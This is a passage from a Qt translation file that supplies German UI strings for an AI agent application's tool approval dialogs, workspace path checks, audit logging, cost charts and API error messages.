        <source>the token approves a different tool</source>
        <translation>der Token gibt ein anderes Werkzeug frei</translation>
    </message>
    <message>
        <source>the token&apos;s scope %1 differs from the tool&apos;s scope %2</source>
        <translation>der Bereich %1 des Tokens weicht vom Bereich %2 des Werkzeugs ab</translation>
    </message>
    <message>
        <source>the token approves different arguments</source>
        <translation>der Token gibt andere Argumente frei</translation>
    </message>
    <message>
        <source>the token belongs to a different run</source>
        <translation>der Token gehört zu einem anderen Lauf</translation>
    </message>
    <message>
        <source>the approval was already used; approve the call again</source>
        <translation>die Freigabe wurde bereits verwendet; geben Sie den Aufruf erneut frei</translation>
    </message>
    <message>
        <source>the approval was revoked</source>
        <translation>die Freigabe wurde widerrufen</translation>
    </message>
</context>
<context>
    <name>ToolExecutor</name>
    <message>
        <source>&quot;%1&quot; is not a registered tool.</source>
        <translation>&quot;%1&quot; ist kein registriertes Werkzeug.</translation>
    </message>
    <message>
        <source>No approval token: %1 runs only with a token bound to this exact call.</source>
        <translation>Kein Freigabe-Token: %1 wird nur mit einem Token ausgeführt, der an genau diesen Aufruf gebunden ist.</translation>
    </message>
    <message>
        <source>Denied by policy just before running: %1</source>
        <translation>Unmittelbar vor der Ausführung von der Richtlinie abgelehnt: %1</translation>
    </message>
</context>
<context>
    <name>ToolRegistry</name>
    <message>
        <source>Tool name &quot;%1&quot; is not allowed (letters, digits, &apos;_&apos; and &apos;-&apos;, at most 64).</source>
        <translation>Der Werkzeugname &quot;%1&quot; ist nicht erlaubt (Buchstaben, Ziffern, &apos;_&apos; und &apos;-&apos;, höchstens 64).</translation>
    </message>
    <message>
        <source>A tool named &quot;%1&quot; is already registered.</source>
        <translation>Ein Werkzeug namens &quot;%1&quot; ist bereits registriert.</translation>
    </message>
    <message>
        <source>Unknown tool &quot;%1&quot;.</source>
        <translation>Unbekanntes Werkzeug &quot;%1&quot;.</translation>
    </message>
    <message>
        <source>The tool &quot;%1&quot; is disabled.</source>
        <translation>Das Werkzeug &quot;%1&quot; ist deaktiviert.</translation>
    </message>
    <message>
        <source>Arguments for %1 do not match its schema: %2</source>
        <translation>Die Argumente für %1 passen nicht zu seinem Schema: %2</translation>
    </message>
</context>
<context>
    <name>UpdatePlanTool</name>
    <message>
        <source>Plan updated: %1 steps, %2 done.</source>
        <translation>Plan aktualisiert: %1 Schritte, %2 erledigt.</translation>
    </message>
</context>
<context>
    <name>Workspace</name>
    <message>
        <source>The workspace folder is empty or contains a NUL character.</source>
        <translation>Der Pfad des Arbeitsordners ist leer oder enthält ein NUL-Zeichen.</translation>
    </message>
    <message>
        <source>The workspace folder &quot;%1&quot; cannot be opened: %2.</source>
        <translation>Der Arbeitsordner &quot;%1&quot; kann nicht geöffnet werden: %2.</translation>
    </message>
    <message>
        <source>The workspace &quot;%1&quot; is not a folder.</source>
        <translation>Der Arbeitsbereich &quot;%1&quot; ist kein Ordner.</translation>
    </message>
    <message>
        <source>The path is empty.</source>
        <translation>Der Pfad ist leer.</translation>
    </message>
    <message>
        <source>The path contains a NUL character.</source>
        <translation>Der Pfad enthält ein NUL-Zeichen.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; resolves to %2, which is outside the workspace %3.</source>
        <translation>&quot;%1&quot; wird zu %2 aufgelöst und liegt damit außerhalb des Arbeitsbereichs %3.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be resolved: too many levels of symbolic links (ELOOP, a link loop).</source>
        <translation>&quot;%1&quot; kann nicht aufgelöst werden: zu viele Ebenen symbolischer Links (ELOOP, eine Link-Schleife).</translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be resolved: %2.</source>
        <translation>&quot;%1&quot; kann nicht aufgelöst werden: %2.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not exist: a part of it is not a folder.</source>
        <translation>&quot;%1&quot; existiert nicht: Ein Teil davon ist kein Ordner.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; goes through the symbolic link %2 to %3, which is outside the workspace %4.</source>
        <translation>&quot;%1&quot; führt über den symbolischen Link %2 zu %3, das außerhalb des Arbeitsbereichs %4 liegt.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; goes through the symbolic link %2 whose target %3 does not exist.</source>
        <translation>&quot;%1&quot; führt über den symbolischen Link %2, dessen Ziel %3 nicht existiert.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not exist (%2).</source>
        <translation>&quot;%1&quot; existiert nicht (%2).</translation>
    </message>
    <message>
        <source>&quot;%1&quot; does not name a file.</source>
        <translation>&quot;%1&quot; bezeichnet keine Datei.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be written: a part of it is not a folder.</source>
        <translation>&quot;%1&quot; kann nicht geschrieben werden: Ein Teil davon ist kein Ordner.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; goes through the symbolic link %2 to %3, which does not exist; writes never go through a link.</source>
        <translation>&quot;%1&quot; führt über den symbolischen Link %2 zu %3, das nicht existiert; Schreibvorgänge folgen nie einem Link.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; uses &quot;..&quot; after a folder that does not exist.</source>
        <translation>&quot;%1&quot; verwendet &quot;..&quot; nach einem Ordner, der nicht existiert.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; cannot be written: %2 is not a folder.</source>
        <translation>&quot;%1&quot; kann nicht geschrieben werden: %2 ist kein Ordner.</translation>
    </message>
    <message>
        <source>&quot;%1&quot; is a symbolic link to %2; writes never go through a link.</source>
        <translation>&quot;%1&quot; ist ein symbolischer Link auf %2; Schreibvorgänge folgen nie einem Link.</translation>
    </message>
</context>
<context>
    <name>WriteFileTool</name>
    <message>
        <source>Created %1 (%2 bytes).</source>
        <translation>%1 angelegt (%2 Bytes).</translation>
    </message>
    <message>
        <source>Replaced %1 (%2 bytes).</source>
        <translation>%1 ersetzt (%2 Bytes).</translation>
    </message>
</context>
<context>
    <name>m1::AlertManager</name>
    <message>
        <source>No alert with the id %1.</source>
        <translation>Keine Warnung mit der ID %1.</translation>
    </message>
    <message>
        <source>The alert %1 is already resolved.</source>
        <translation>Die Warnung %1 ist bereits erledigt.</translation>
    </message>
</context>
<context>
    <name>m1::AlertsView</name>
    <message>
        <source>&amp;Open only</source>
        <translation>Nur &amp;offene</translation>
    </message>
    <message>
        <source>Filter by level</source>
        <translation>Nach Stufe filtern</translation>
    </message>
    <message>
        <source>All levels</source>
        <translation>Alle Stufen</translation>
    </message>
    <message>
        <source>Filter by category</source>
        <translation>Nach Kategorie filtern</translation>
    </message>
    <message>
        <source>All categories</source>
        <translation>Alle Kategorien</translation>
    </message>
    <message>
        <source>&amp;Resolve…</source>
        <translation>&amp;Erledigen…</translation>
    </message>
    <message>
        <source>Re&amp;load</source>
        <translation>Neu &amp;laden</translation>
    </message>
    <message>
        <source>Alerts</source>
        <translation>Warnungen</translation>
    </message>
    <message>
        <source>Raised</source>
        <translation>Ausgelöst</translation>
    </message>
    <message>
        <source>Level</source>
        <translation>Stufe</translation>
    </message>
    <message>
        <source>Category</source>
        <translation>Kategorie</translation>
    </message>
    <message>
        <source>Message</source>
        <translation>Meldung</translation>
    </message>
    <message>
        <source>Run</source>
        <translation>Lauf</translation>
    </message>
    <message>
        <source>Alerts could not be read: %1</source>
        <translation>Warnungen konnten nicht gelesen werden: %1</translation>
    </message>
    <message>
        <source>Resolved: %1</source>
        <translation>Erledigt: %1</translation>
    </message>
    <message numerus="yes">
        <source>%n open alert(s)</source>
        <translation>
            <numerusform>%n offene Warnung</numerusform>
            <numerusform>%n offene Warnungen</numerusform>
        </translation>
    </message>
    <message>
        <source>Resolve alert</source>
        <translation>Warnung erledigen</translation>
    </message>
    <message>
        <source>What was done about it (kept with the alert):</source>
        <translation>Was dagegen unternommen wurde (wird mit der Warnung gespeichert):</translation>
    </message>
    <message>
        <source>Not resolved</source>
        <translation>Nicht erledigt</translation>
    </message>
    <message>
        <source>Reading the alerts</source>
        <translation>Lesen der Warnungen</translation>
    </message>
    <message>
        <source>Opening the audit database…</source>
        <translation>Prüfprotokoll-Datenbank wird geöffnet…</translation>
    </message>
    <message>
        <source>No audit database: %1</source>
        <translation>Keine Prüfprotokoll-Datenbank: %1</translation>
    </message>
</context>
<context>
    <name>m1::ApprovalCallView</name>
    <message>
        <source>Run:</source>
        <translation>Lauf:</translation>
    </message>
    <message>
        <source>%1, step %2</source>
        <translation>%1, Schritt %2</translation>
    </message>
    <message>
        <source>Why you are asked:</source>
        <translation>Warum Sie gefragt werden:</translation>
    </message>
    <message>
        <source>The first 12 hex digits of the SHA-256 of the call&apos;s canonical arguments: the approval token binds exactly these. The timeline card shows the token&apos;s own fingerprint once it is issued.</source>
        <translation>Die ersten 12 Hex-Ziffern des SHA-256 der kanonischen Argumente des Aufrufs: Der Freigabe-Token bindet genau diese. Die Karte in der Zeitleiste zeigt den Fingerabdruck des Tokens selbst, sobald er ausgestellt ist.</translation>
    </message>
    <message>
        <source>Fingerprint:</source>
        <translation>Fingerabdruck:</translation>
    </message>
    <message>
        <source>Path:</source>
        <translation>Pfad:</translation>
    </message>
    <message>
        <source>Working folder:</source>
        <translation>Arbeitsverzeichnis:</translation>
    </message>
    <message>
        <source>&amp;Changes</source>
        <translation>Ä&amp;nderungen</translation>
    </message>
    <message>
        <source>Co&amp;mmand</source>
        <translation>&amp;Befehl</translation>
    </message>
    <message>
        <source>Arguments as JSON</source>
        <translation>Argumente als JSON</translation>
    </message>
    <message>
        <source>&amp;Edit the arguments before approving</source>
        <translation>Argumente vor der Freigabe bearbei&amp;ten</translation>
    </message>
    <message>
        <source>The edited call is checked against the tool&apos;s schema and the policy again; the approval token binds the edited arguments.</source>
        <translation>Der bearbeitete Aufruf wird erneut gegen das Schema des Werkzeugs und die Richtlinie geprüft; der Freigabe-Token bindet die bearbeiteten Argumente.</translation>
    </message>
    <message>
        <source>A&amp;rguments</source>
        <translation>Ar&amp;gumente</translation>
    </message>
    <message>
        <source>%1 → cannot be resolved: %2</source>
        <translation>%1 → kann nicht aufgelöst werden: %2</translation>
    </message>
    <message>
        <source>%1 → %2</source>
        <translation>%1 → %2</translation>
    </message>
    <message>
        <source>The current file is larger than %1 MB: the diff compares with an empty file.</source>
        <translation>Die aktuelle Datei ist größer als %1 MB: Der Diff vergleicht mit einer leeren Datei.</translation>
    </message>
    <message>
        <source>The file does not exist yet: it will be created.</source>
        <translation>Die Datei existiert noch nicht: Sie wird angelegt.</translation>
    </message>
    <message>
        <source>old_string does not occur in the current file: the edit will fail. The diff shows old_string against new_string.</source>
        <translation>old_string kommt in der aktuellen Datei nicht vor: Die Bearbeitung wird fehlschlagen. Der Diff zeigt old_string gegenüber new_string.</translation>
    </message>
    <message>
        <source>old_string occurs more than once: the edit will fail.</source>
        <translation>old_string kommt mehrfach vor: Die Bearbeitung wird fehlschlagen.</translation>
    </message>
    <message>
        <source>(no change)</source>
        <translation>(keine Änderung)</translation>
    </message>
    <message>
        <source>Unified diff of the change</source>
        <translation>Unified Diff der Änderung</translation>
    </message>
    <message numerus="yes">
        <source>%n argument(s), one per row, run directly (no shell); the longest has %1 characters. Scroll to see every one whole.</source>
        <translation>
            <numerusform>%n Argument, eines pro Zeile, direkt ausgeführt (keine Shell); das längste hat %1 Zeichen. Scrollen Sie, um jedes vollständig zu sehen.</numerusform>
            <numerusform>%n Argumente, eines pro Zeile, direkt ausgeführt (keine Shell); das längste hat %1 Zeichen. Scrollen Sie, um jedes vollständig zu sehen.</numerusform>
        </translation>
    </message>
    <message>
        <source>Command arguments, one per row</source>
        <translation>Befehlsargumente, eines pro Zeile</translation>
    </message>
    <message>
        <source>%1 (edited)</source>
        <translation>%1 (bearbeitet)</translation>
    </message>
    <message>
        <source>Not valid JSON at character %1: %2</source>
        <translation>Kein gültiges JSON bei Zeichen %1: %2</translation>
    </message>
    <message>
        <source>The arguments must be one JSON object.</source>
        <translation>Die Argumente müssen ein einzelnes JSON-Objekt sein.</translation>
    </message>
    <message>
        <source>Unchanged.</source>
        <translation>Unverändert.</translation>
    </message>
    <message>
        <source>Refused by the tool&apos;s schema: %1</source>
        <translation>Vom Schema des Werkzeugs abgewiesen: %1</translation>
    </message>
    <message>
        <source>Valid. </source>
        <translation>Gültig. </translation>
    </message>
    <message>
        <source>The policy denies the edited call: %1</source>
        <translation>Die Richtlinie lehnt den bearbeiteten Aufruf ab: %1</translation>
    </message>
    <message>
        <source>The policy would allow it.</source>
        <translation>Die Richtlinie würde ihn erlauben.</translation>
    </message>
    <message>
        <source>The policy asks: %1</source>
        <translation>Die Richtlinie fragt nach: %1</translation>
    </message>
    <message>
        <source>The current file cannot be read: %1 The diff compares with an empty file.</source>
        <translation>Die aktuelle Datei kann nicht gelesen werden: %1 Der Diff vergleicht mit einer leeren Datei.</translation>
    </message>
</context>
<context>
    <name>m1::ApprovalDialog</name>
    <message>
        <source>Approve %1? — %2</source>
        <translation>%1 freigeben? — %2</translation>
    </message>
    <message>
        <source>Approval request for %1</source>
        <translation>Freigabeanfrage für %1</translation>
    </message>
    <message>
        <source>Scope: %1</source>
        <translation>Bereich: %1</translation>
    </message>
    <message>
        <source>The agent wants to run %1</source>
        <translation>Der Agent möchte %1 ausführen</translation>
    </message>
    <message>
        <source>Waits until:</source>
        <translation>Wartet bis:</translation>
    </message>
    <message>
        <source>&amp;Feedback for the model:</source>
        <translation>&amp;Rückmeldung an das Modell:</translation>
    </message>
    <message>
        <source>Optional: why not, or what to do instead (sent with a denial)</source>
        <translation>Optional: warum nicht oder was stattdessen zu tun ist (wird mit einer Ablehnung gesendet)</translation>
    </message>
    <message>
        <source>&amp;Approve once</source>
        <translation>&amp;Einmal freigeben</translation>
    </message>
    <message>
        <source>Approve for this &amp;run</source>
        <translation>Für diesen &amp;Lauf freigeben</translation>
    </message>
    <message>
        <source>Also approve later proposals of this run with the same tool and the same %1.</source>
        <translation>Auch spätere Vorschläge dieses Laufs mit demselben Werkzeug und %1 freigeben.</translation>
    </message>
    <message>
        <source>command line and working folder</source>
        <translation>derselben Befehlszeile und demselben Arbeitsverzeichnis</translation>
    </message>
    <message>
        <source>path</source>
        <translation>demselben Pfad</translation>
    </message>
    <message>
        <source>arguments</source>
        <translation>denselben Argumenten</translation>
    </message>
    <message>
        <source>A&amp;lways allow…</source>
        <translation>&amp;Immer erlauben…</translation>
    </message>
    <message>
        <source>Add an allow rule to your policy file (shown first).</source>
        <translation>Fügt Ihrer Richtliniendatei eine allow-Regel hinzu (wird vorher angezeigt).</translation>
    </message>
    <message>
        <source>Deny &amp;with feedback</source>
        <translation>&amp;Mit Rückmeldung ablehnen</translation>
    </message>
    <message>
        <source>&amp;Deny</source>
        <translation>&amp;Ablehnen</translation>
    </message>
    <message>
        <source>no time limit</source>
        <translation>keine Zeitbegrenzung</translation>
    </message>
    <message>
        <source>%1 (expires in %2:%3)</source>
        <translation>%1 (läuft ab in %2:%3)</translation>
    </message>
    <message>
        <source>Cannot add a rule</source>
        <translation>Regel kann nicht hinzugefügt werden</translation>
    </message>
    <message>
        <source>No rule can express this call: %1
Approve it once instead.</source>
        <translation>Keine Regel kann diesen Aufruf ausdrücken: %1
Geben Sie ihn stattdessen einmal frei.</translation>
    </message>
    <message>
        <source>Always allow?</source>
        <translation>Immer erlauben?</translation>
    </message>
    <message>
        <source>This adds the rule

    allow: %1

to %2. Later runs will run matching calls without asking (deny rules still win). Runs already going keep their rules.</source>
        <translation>Damit wird die Regel

    allow: %1

zu %2 hinzugefügt. Spätere Läufe führen passende Aufrufe ohne Nachfrage aus (deny-Regeln haben weiterhin Vorrang). Bereits laufende Läufe behalten ihre Regeln.</translation>
    </message>
    <message>
        <source>Policy file not changed</source>
        <translation>Richtliniendatei nicht geändert</translation>
    </message>
    <message>
        <source>%1
Fix the file (or remove it), then try again.</source>
        <translation>%1
Korrigieren Sie die Datei (oder entfernen Sie sie) und versuchen Sie es dann erneut.</translation>
    </message>
    <message>
        <source>Could not write %1: %2</source>
        <translation>%1 konnte nicht geschrieben werden: %2</translation>
    </message>
    <message>
        <source>Calls &amp;in this message:</source>
        <translation>A&amp;ufrufe in dieser Nachricht:</translation>
    </message>
    <message>
        <source>The calls of this message that need a decision</source>
        <translation>Die Aufrufe dieser Nachricht, die eine Entscheidung erfordern</translation>
    </message>
    <message>
        <source>&amp;Previous</source>
        <translation>&amp;Vorheriger</translation>
    </message>
    <message>
        <source>&amp;Next</source>
        <translation>&amp;Nächster</translation>
    </message>
    <message>
        <source>This call:</source>
        <translation>Dieser Aufruf:</translation>
    </message>
    <message>
        <source>Approve every call of this message still waiting, each with its own token bound to its own arguments. Comes alive once every call has been shown.</source>
        <translation>Gibt alle noch wartenden Aufrufe dieser Nachricht frei, jeden mit einem eigenen Token, der an seine eigenen Argumente gebunden ist. Wird aktiv, sobald jeder Aufruf angezeigt wurde.</translation>
    </message>
    <message>
        <source>Deny every call of this message still waiting (the feedback, if any, goes with each).</source>
        <translation>Lehnt alle noch wartenden Aufrufe dieser Nachricht ab (eine eventuelle Rückmeldung wird jedem beigefügt).</translation>
    </message>
    <message>
        <source>Call %1 of this message changes this file first: the diff below is against the file as it is now.</source>
        <translation>Aufruf %1 dieser Nachricht ändert diese Datei zuvor: Der Diff unten bezieht sich auf den aktuellen Stand der Datei.</translation>
    </message>
    <message>
        <source>Approve %1 calls? — %2</source>
        <translation>%1 Aufrufe freigeben? — %2</translation>
    </message>
    <message>
        <source>call %1 of %2 in this message</source>
        <translation>Aufruf %1 von %2 in dieser Nachricht</translation>
    </message>
    <message numerus="yes">
        <source>%n more waiting</source>
        <translation>
            <numerusform>%n weiterer wartet</numerusform>
            <numerusform>%n weitere warten</numerusform>
        </translation>
    </message>
    <message>
        <source>%1. %2 (%3)</source>
        <translation>%1. %2 (%3)</translation>
    </message>
    <message>
        <source> — decided</source>
        <translation> — entschieden</translation>
    </message>
    <message>
        <source> — not shown yet</source>
        <translation> — noch nicht angezeigt</translation>
    </message>
    <message>
        <source>Appro&amp;ve all %1</source>
        <translation>Alle %1 frei&amp;geben</translation>
    </message>
    <message>
        <source>Den&amp;y all %1</source>
        <translation>Alle %1 a&amp;blehnen</translation>
    </message>
    <message>
        <source>All %1 still waiting:</source>
        <translation>Alle %1 noch wartenden:</translation>
    </message>
    <message>
        <source>Every call has been shown.</source>
        <translation>Jeder Aufruf wurde angezeigt.</translation>
    </message>
    <message>
        <source>%1 of %2 shown: page through the rest (Alt+N) to approve them all.</source>
        <translation>%1 von %2 angezeigt: Blättern Sie durch die übrigen (Alt+N), um alle freizugeben.</translation>
    </message>
    <message>
        <source>approved for this run</source>
        <translation>für diesen Lauf freigegeben</translation>
    </message>
    <message>
        <source>always allowed (rule %1)</source>
        <translation>immer erlaubt (Regel %1)</translation>
    </message>
    <message>
        <source>approved once</source>
        <translation>einmal freigegeben</translation>
    </message>
    <message>
        <source>denied</source>
        <translation>abgelehnt</translation>
    </message>
    <message>
        <source>approved with all %1 calls of the message</source>
        <translation>zusammen mit allen %1 Aufrufen der Nachricht freigegeben</translation>
    </message>
    <message>
        <source>denied with all %1 calls of the message</source>
        <translation>zusammen mit allen %1 Aufrufen der Nachricht abgelehnt</translation>
    </message>
</context>
<context>
    <name>m1::AuditWriter</name>
    <message>
        <source>The audit writer did not confirm the event within %1 ms; treat it as not written.</source>
        <translation>Der Schreibprozess des Prüfprotokolls hat den Eintrag nicht innerhalb von %1 ms bestätigt; betrachten Sie ihn als nicht geschrieben.</translation>
    </message>
</context>
<context>
    <name>m1::AuditWriterWorker</name>
    <message>
        <source>%1 was refused: %2 &quot;%3&quot; of run &quot;%4&quot; is unknown or not in a state that allows it.</source>
        <translation>%1 wurde abgewiesen: %2 &quot;%3&quot; des Laufs &quot;%4&quot; ist unbekannt oder in keinem Zustand, der dies erlaubt.</translation>
    </message>
    <message>
        <source>alert</source>
        <translation>Warnung</translation>
    </message>
    <message>
        <source>the tool call</source>
        <translation>der Werkzeugaufruf</translation>
    </message>
    <message>
        <source>Starting an audit write</source>
        <translation>Beginnen eines Schreibvorgangs im Prüfprotokoll</translation>
    </message>
    <message>
        <source>Committing an audit write</source>
        <translation>Abschließen eines Schreibvorgangs im Prüfprotokoll</translation>
    </message>
    <message>
        <source>Counting a tool call</source>
        <translation>Zählen eines Werkzeugaufrufs</translation>
    </message>
    <message>
        <source>Recording the start of run &quot;%1&quot;</source>
        <translation>Protokollieren des Starts von Lauf &quot;%1&quot;</translation>
    </message>
    <message>
        <source>Updating the plan</source>
        <translation>Aktualisieren des Plans</translation>
    </message>
    <message>
        <source>Recording the end of run &quot;%1&quot;</source>
        <translation>Protokollieren des Endes von Lauf &quot;%1&quot;</translation>
    </message>
    <message>
        <source>Run &quot;%1&quot; is unknown or already finished.</source>
        <translation>Lauf &quot;%1&quot; ist unbekannt oder bereits beendet.</translation>
    </message>
    <message>
        <source>Recording the proposal &quot;%1&quot;</source>
        <translation>Protokollieren des Vorschlags &quot;%1&quot;</translation>
    </message>
    <message>
        <source>Recording the policy decision</source>
        <translation>Protokollieren der Richtlinienentscheidung</translation>
    </message>
    <message>
        <source>Approval</source>
        <translation>Freigabe</translation>
    </message>
    <message>
        <source>Denial</source>
        <translation>Ablehnung</translation>
    </message>
    <message>
        <source>Recording the execution</source>
        <translation>Protokollieren der Ausführung</translation>
    </message>
    <message>
        <source>Recording the failure</source>
        <translation>Protokollieren des Fehlschlags</translation>
    </message>
    <message>
        <source>Recording an API call</source>
        <translation>Protokollieren eines API-Aufrufs</translation>
    </message>
    <message>
        <source>Adding the API call to its run</source>
        <translation>Zuordnen des API-Aufrufs zu seinem Lauf</translation>
    </message>
    <message>
        <source>Recording an alert</source>
        <translation>Protokollieren einer Warnung</translation>
    </message>
    <message>
        <source>Resolving the alert</source>
        <translation>Erledigen der Warnung</translation>
    </message>
    <message>
        <source>Unknown audit event kind.</source>
        <translation>Unbekannte Art von Protokolleintrag.</translation>
    </message>
    <message>
        <source>A page limit exists only for SQLite audit databases.</source>
        <translation>Ein Seitenlimit gibt es nur für SQLite-Prüfprotokoll-Datenbanken.</translation>
    </message>
    <message>
        <source>The audit writer has no connection.</source>
        <translation>Der Schreibprozess des Prüfprotokolls hat keine Verbindung.</translation>
    </message>
    <message>
        <source>Setting the page limit</source>
        <translation>Setzen des Seitenlimits</translation>
    </message>
    <message>
        <source>Updating the dashboard sums</source>
        <translation>Aktualisieren der Dashboard-Summen</translation>
    </message>
</context>
<context>
    <name>m1::AutoApprovalGate</name>
    <message>
        <source>pre-authorised token %1</source>
        <translation>vorab autorisierter Token %1</translation>
    </message>
    <message>
        <source>auto-approved up to scope %1</source>
        <translation>automatisch freigegeben bis Bereich %1</translation>
    </message>
    <message>
        <source>%1 needs a person&apos;s approval (%2), but there is no terminal to ask and no --token or --auto-approve covers it</source>
        <translation>%1 benötigt die Freigabe einer Person (%2), aber es gibt kein Terminal für eine Rückfrage, und weder --token noch --auto-approve deckt dies ab</translation>
    </message>
    <message>
        <source>%1 needs a person&apos;s approval (%2); --auto-approve covers only calls that need approval because of their scope, never a rule&apos;s or a built-in protection&apos;s question, and there is no terminal to ask</source>
        <translation>%1 braucht die Freigabe durch eine Person (%2); --auto-approve deckt nur Aufrufe ab, die wegen ihres Bereichs eine Freigabe brauchen, nie die Rückfrage einer Regel oder eines eingebauten Schutzes, und es gibt kein Terminal zum Nachfragen</translation>
    </message>
</context>
<context>
    <name>m1::ChartsView</name>
    <message>
        <source>First day of the charts</source>
        <translation>Erster Tag der Diagramme</translation>
    </message>
    <message>
        <source>Last day of the charts</source>
        <translation>Letzter Tag der Diagramme</translation>
    </message>
    <message>
        <source>&amp;From</source>
        <translation>&amp;Von</translation>
    </message>
    <message>
        <source>&amp;to</source>
        <translation>&amp;bis</translation>
    </message>
    <message>
        <source>Export cost report (&amp;CSV)…</source>
        <translation>Kostenbericht exportieren (&amp;CSV)…</translation>
    </message>
    <message>
        <source>Cost per day by model</source>
        <translation>Kosten pro Tag nach Modell</translation>
    </message>
    <message>
        <source>Tokens per day by kind</source>
        <translation>Tokens pro Tag nach Art</translation>
    </message>
    <message>
        <source>Tool calls by tool</source>
        <translation>Werkzeugaufrufe nach Werkzeug</translation>
    </message>
    <message>
        <source>Approval outcomes</source>
        <translation>Freigabeergebnisse</translation>
    </message>
    <message>
        <source>Error rate over time</source>
        <translation>Fehlerrate im Zeitverlauf</translation>
    </message>
    <message>
        <source>Export cost report</source>
        <translation>Kostenbericht exportieren</translation>
    </message>
    <message>
        <source>CSV (*.csv)</source>
        <translation>CSV (*.csv)</translation>
    </message>
    <message>
        <source>Export failed</source>
        <translation>Export fehlgeschlagen</translation>
    </message>
    <message>
        <source>Loading…</source>
        <translation>Wird geladen…</translation>
    </message>
    <message>
        <source>The charts could not be read: %1</source>
        <translation>Die Diagramme konnten nicht gelesen werden: %1</translation>
    </message>
    <message>
        <source>Cost per day by model (USD)</source>
        <translation>Kosten pro Tag nach Modell (USD)</translation>
    </message>
    <message>
        <source>average day (projection)</source>
        <translation>Durchschnittstag (Prognose)</translation>
    </message>
    <message>
        <source>daily budget</source>
        <translation>Tagesbudget</translation>
    </message>
    <message>
        <source>monthly budget per day</source>
        <translation>Monatsbudget pro Tag</translation>
    </message>
    <message>
        <source>Tokens per day</source>
        <translation>Tokens pro Tag</translation>
    </message>
    <message>
        <source>input</source>
        <translation>Eingabe</translation>
    </message>
    <message>
        <source>output</source>
        <translation>Ausgabe</translation>
    </message>
    <message>
        <source>cache write</source>
        <translation>Cache-Schreiben</translation>
    </message>
    <message>
        <source>cache read</source>
        <translation>Cache-Lesen</translation>
    </message>
    <message>
        <source>executed</source>
        <translation>ausgeführt</translation>
    </message>
    <message>
        <source>failed</source>
        <translation>fehlgeschlagen</translation>
    </message>
    <message>
        <source>denied</source>
        <translation>abgelehnt</translation>
    </message>
    <message>
        <source>approved</source>
        <translation>freigegeben</translation>
    </message>
    <message>
        <source>Error rate per day (%)</source>
        <translation>Fehlerrate pro Tag (%)</translation>
    </message>
    <message>
        <source>tool runs</source>
        <translation>Werkzeugausführungen</translation>
    </message>
    <message>
        <source>API calls</source>
        <translation>API-Aufrufe</translation>
    </message>
    <message>
        <source>Could not open %1: %2</source>
        <translation>%1 konnte nicht geöffnet werden: %2</translation>
    </message>
    <message>
        <source>Could not write %1: %2</source>
        <translation>%1 konnte nicht geschrieben werden: %2</translation>
    </message>
    <message>
        <source>Reading the charts or writing the report</source>
        <translation>Lesen der Diagramme oder Schreiben des Berichts</translation>
    </message>
    <message>
        <source>Tool run time percentiles</source>
        <translation>Perzentile der Werkzeuglaufzeit</translation>
    </message>
    <message>
        <source>API latency percentiles per day</source>
        <translation>API-Latenz-Perzentile pro Tag</translation>
    </message>
    <message>
        <source>Opening the audit database…</source>
        <translation>Prüfprotokoll-Datenbank wird geöffnet…</translation>
    </message>
    <message>
        <source>No audit database: %1</source>
        <translation>Keine Prüfprotokoll-Datenbank: %1</translation>
    </message>
    <message>
        <source>day (UTC), %1 to %2</source>
        <translation>Tag (UTC), %1 bis %2</translation>
    </message>
    <message>
        <source>Tool run time percentiles (ms, log scale)</source>
        <translation>Perzentile der Werkzeuglaufzeit (ms, logarithmisch)</translation>
    </message>
    <message>
        <source> ms</source>
        <translation> ms</translation>
    </message>
    <message numerus="yes">
        <source>%1 (%n API call(s))</source>
        <translation>
            <numerusform>%1 (%n API-Aufruf)</numerusform>
            <numerusform>%1 (%n API-Aufrufe)</numerusform>
        </translation>
    </message>
    <message>
        <source>API latency per day (ms)</source>
        <translation>API-Latenz pro Tag (ms)</translation>
    </message>
    <message>
        <source>Writing %1…</source>
        <translation>%1 wird geschrieben…</translation>
    </message>
    <message>
        <source>The audit database is not open yet.</source>
        <translation>Die Prüfprotokoll-Datenbank ist noch nicht geöffnet.</translation>
    </message>
    <message>
        <source>Last report: %1</source>
        <translation>Letzter Bericht: %1</translation>
    </message>
    <message>
        <source>The cost report was not written: %1</source>
        <translation>Der Kostenbericht wurde nicht geschrieben: %1</translation>
    </message>
    <message>
        <source>Choose another file or folder (one you may write to, with free space) and export again. If the database is the problem, the Alerts and History pages show whether it can be read.</source>
        <translation>Wählen Sie eine andere Datei oder einen anderen Ordner (mit Schreibrecht und freiem Speicherplatz) und exportieren Sie erneut. Liegt es an der Datenbank, zeigen die Seiten Warnungen und Verlauf, ob sie lesbar ist.</translation>
    </message>
    <message>
        <source>Cost in range: %1 · month to date %2 · projected month %3</source>
        <translation>Kosten im Zeitraum: %1 · Monat bisher %2 · Monatsprognose %3</translation>
    </message>
</context>
<context>
    <name>m1::ClaudeProvider</name>
    <message>
        <source>The API endpoint answered with a redirect (HTTP %1); it is not followed so the API key is never sent elsewhere. Check the API address.</source>
        <translation>Der API-Endpunkt hat mit einer Weiterleitung geantwortet (HTTP %1); ihr wird nicht gefolgt, damit der API-Schlüssel nie an eine andere Stelle gesendet wird. Prüfen Sie die API-Adresse.</translation>
    </message>
    <message>
        <source>The API did not answer within %1 s.</source>
        <translation>Die API hat nicht innerhalb von %1 s geantwortet.</translation>
    </message>
    <message>
        <source>Could not reach the API (%1): %2</source>
        <translation>Die API konnte nicht erreicht werden (%1): %2</translation>
    </message>
    <message>
        <source>The response stream stalled for %1 s and was abandoned; nothing from it was used.</source>
        <translation>Der Antwort-Stream stockte %1 s lang und wurde aufgegeben; nichts daraus wurde verwendet.</translation>
    </message>
    <message>
        <source>The response stream ended before the message was complete; nothing from it was used.</source>
        <translation>Der Antwort-Stream endete, bevor die Nachricht vollständig war; nichts daraus wurde verwendet.</translation>
    </message>
    <message>
        <source>Claude is rate limited and asks for a wait of %1 s; try again at %2.</source>
        <translation>Claude ist ratenbegrenzt und bittet um eine Wartezeit von %1 s; versuchen Sie es um %2 erneut.</translation>
    </message>
    <message>
